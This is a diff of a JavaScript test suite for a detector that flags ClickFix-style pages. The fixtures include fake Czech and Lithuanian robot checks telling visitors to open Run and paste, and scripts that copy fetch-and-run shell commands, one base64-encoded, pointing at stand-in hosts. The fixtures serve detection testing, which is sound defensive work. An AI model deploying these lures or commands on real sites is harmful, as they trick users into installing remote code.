@@ -1529,6 +1529,12 @@ describe('analysis: signal rules', () => {
 
     it('a fake check in Czech and Lithuanian ("Nejsem robot", "nesate robotas") beside Run or Terminal steps is ClickFix; a macOS command that decodes base64 into bash -c on the clipboard is a shell command; a real install page\'s copy button is not', () => {
       decides('clickfix-instructions', 'https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
+      // Open Run, paste, Enter inside the robot check: the whole routine is malicious even when no command was seen on the clipboard.
+      const steps = judge('https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
+      assert.ok(steps.decidedBy?.includes('combo:clickfix-steps') && steps.verdict === 'malicious', `${steps.verdict} by ${steps.decidedBy?.join(',')}`);
+      // An IT page's Run-dialog and paste steps without a robot check stay below it.
+      const help = judge('https://www.itc.example-univ.ac.jp/help/ipconfig.html', '<h1>IP address check</h1><ol><li>Press Win + R</li><li>Type cmd and paste the command with Ctrl + V</li><li>Press Enter</li></ol>');
+      assert.ok(!help.decidedBy?.includes('combo:clickfix-steps'), `${help.verdict} by ${help.decidedBy?.join(',')}`);
       decides('clickfix-scripted-copy', 'https://www.receptai-example.lt/', '<h1>Cepelinai</h1><p>Patvirtinkite, kad nesate robotas</p><button id="b">Kopijuoti</button><script>document.getElementById("b").onclick=function(){navigator.clipboard.writeText("echo check && " + "/bin/zsh -c \\"$(curl -fsSL https://cdn-verify.example/i.sh)\\"")}</script>');
       const mac = judge('https://launcher-fix.example/mac', '<h1>Fix launcher error 1034</h1><p>Copy the command and paste it into Terminal.</p><button id="c">Copy</button><script>document.getElementById("c").onclick=function(){navigator.clipboard.writeText(\'/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9oLnNoIHwgYmFzaA== | base64 -d)"\')}</script>');
       assert.ok(ids(mac).includes('clipboard-shell-command'), JSON.stringify(ids(mac)));
